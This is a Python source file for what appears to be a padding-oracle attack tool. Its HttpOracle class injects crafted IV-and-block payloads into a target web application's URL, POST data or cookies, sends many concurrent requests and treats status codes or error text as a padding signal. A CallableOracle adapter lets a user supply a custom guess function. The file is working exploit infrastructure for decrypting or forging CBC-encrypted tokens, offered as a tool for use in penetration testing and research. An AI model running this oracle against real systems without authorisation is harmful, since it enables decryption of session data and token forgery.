import asyncio
import inspect
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from http.cookiejar import DefaultCookiePolicy
from typing import Callable, Dict, Iterable, List, Optional, Protocol
from urllib.parse import quote

import requests
from requests.adapters import HTTPAdapter
from structlog.typing import FilteringBoundLogger

from pad_fuster.encoding import SampleEncoding, encode
from pad_fuster.errors import ConfigurationError, OracleTransportFailure
from pad_fuster.log import get_logger
from pad_fuster.plugins import SubmitGuessFn

DEFAULT_RETRY_COUNT = 3
DEFAULT_TIMEOUT = 10


@dataclass(frozen=True, slots=True)
class OracleResult:
    valid: bool
    debug_info: Optional[str] = None


class Oracle(Protocol):
    """Decides whether IV || block decrypts to validly padded plaintext.

    Implementations raise OracleTransportFailure once their own retries are
    exhausted. They must be safe to call concurrently.
    """

    async def test(self, iv: bytes, block: bytes) -> OracleResult: ...


def make_replacer(original: str, sample: str) -> Optional[Callable[[str], str]]:
    """Return a function that puts a payload where the sample was, or None."""
    index = original.find(sample)
    if index == -1:
        return None

    pre = original[:index]
    post = original[index + len(sample):]
    return lambda payload: f"{pre}{payload}{post}"


def url_encode(payload: str) -> str:
    return quote(payload, safe="")


class HttpOracle:
    """Padding oracle backed by an HTTP endpoint.

    The encrypted sample is located in the URL, the request body and the
    cookies; each attempt is encoded like the sample and substituted in its
    place. A 200 response means valid padding, unless padding_error is set,
    in which case a response is valid when that text is missing from the
    body.
    """

    def __init__(
        self,
        url: str,
        sample: str,
        *,
        data: Optional[str] = None,
        cookies: Iterable[str] = (),
        method: Optional[str] = None,
        headers: Optional[Dict[str, str]] = None,
        encoding: SampleEncoding = "b64",
        retry_count: int = DEFAULT_RETRY_COUNT,
        padding_error: Optional[str] = None,
        timeout: float = DEFAULT_TIMEOUT,
        max_workers: int = 64,
        log: Optional[FilteringBoundLogger] = None,
    ):
        if retry_count < 1:
            raise ConfigurationError("retry_count must be at least 1")

        self.url = url
        self.body = data
        self.headers = dict(headers or {})
        self.encoding = encoding
        self.retry_count = retry_count
        self.padding_error = padding_error
        self.timeout = timeout
        self.log = get_logger("oracle", log)

        self.build_url = make_replacer(url, sample)
        self.build_body = make_replacer(data, sample) if data else None
        if data:
            self.method = method or "POST"
        else:
            self.method = method or "GET"

        self.cookie_builders: List[Callable[[str], str]] = []
        found_cookie = False
        for cookie in cookies:
            name, sep, value = cookie.partition("=")
            replacer = make_replacer(value, sample) if sep else None
            if replacer is None:
                self.cookie_builders.append(lambda _payload, cookie=cookie: cookie)
                continue
            found_cookie = True
            self.cookie_builders.append(
                lambda payload, name=name, replacer=replacer: f"{name}={replacer(payload)}"
            )

        if not (self.build_url or self.build_body or found_cookie):
            raise ConfigurationError("Sample not found in either URL, POST data or Cookies")

        # One keep-alive connection per worker thread.
        self.session = requests.Session()
        adapter = HTTPAdapter(pool_connections=max_workers, pool_maxsize=max_workers)
        self.session.mount("http://", adapter)
        self.session.mount("https://", adapter)
        # Every attempt carries only the configured cookies, never ones set by the target.
        self.session.cookies.set_policy(DefaultCookiePolicy(allowed_domains=[]))

        self._executor = ThreadPoolExecutor(max_workers=max_workers, thread_name_prefix="oracle")

    async def test(self, iv: bytes, block: bytes) -> OracleResult:
        payload = encode(iv + block, self.encoding)
        loop = asyncio.get_running_loop()
        return await loop.run_in_executor(self._executor, self._test_sync, payload)

    def _test_sync(self, payload: str) -> OracleResult:
        last_error: Optional[Exception] = None
        for attempt in range(1, self.retry_count + 1):
            try:
                response = self.request(payload)
            except requests.RequestException as e:
                last_error = e
                self.log.debug("request failed", attempt=attempt, retries=self.retry_count, error=str(e))
                continue

            valid = self.test_response(response)
            debug_info = f"Payload: {payload} | {response.status_code} {response.reason} ({len(response.content)}B)"
            return OracleResult(valid=valid, debug_info=debug_info)

        raise OracleTransportFailure(
            f"Request failed after {self.retry_count} attempts: {last_error}"
        ) from last_error

    def test_response(self, response: requests.Response) -> bool:
        if self.padding_error is not None:
            return self.padding_error not in response.text
        return response.status_code == 200

    def request(self, payload: str) -> requests.Response:
        url_payload = url_encode(payload)
        url = self.build_url(url_payload) if self.build_url else self.url
        body = self.build_body(payload) if self.build_body else self.body

        headers = dict(self.headers)
        if self.cookie_builders:
            headers["Cookie"] = "; ".join(build(url_payload) for build in self.cookie_builders)

        return self.session.request(
            self.method,
            url,
            data=body,
            headers=headers,
            timeout=self.timeout,
            allow_redirects=False,
        )

    def close(self) -> None:
        self._executor.shutdown(wait=True)
        self.session.close()

    def __enter__(self) -> "HttpOracle":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


class CallableOracle:
    """Adapts a user submit_guess(prev_block, target_block) function to the Oracle interface.

    Plain functions run on a thread pool, coroutine functions are awaited.
    Anything the function raises is reported as a transport failure.
    """

    def __init__(self, fn: SubmitGuessFn, *, max_workers: int = 64):
        self.fn = fn
        self.is_async = inspect.iscoroutinefunction(fn)
        self._executor = None if self.is_async else ThreadPoolExecutor(
            max_workers=max_workers, thread_name_prefix="guess-fn"
        )

    async def test(self, iv: bytes, block: bytes) -> OracleResult:
        try:
            if self.is_async:
                valid = await self.fn(iv, block)
            else:
                loop = asyncio.get_running_loop()
                valid = await loop.run_in_executor(self._executor, self.fn, iv, block)
        except Exception as e:
            raise OracleTransportFailure(f"submit_guess raised {type(e).__name__}: {e}") from e
        return OracleResult(valid=bool(valid))

    def close(self) -> None:
        if self._executor is not None:
            self._executor.shutdown(wait=True)

    def __enter__(self) -> "CallableOracle":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()
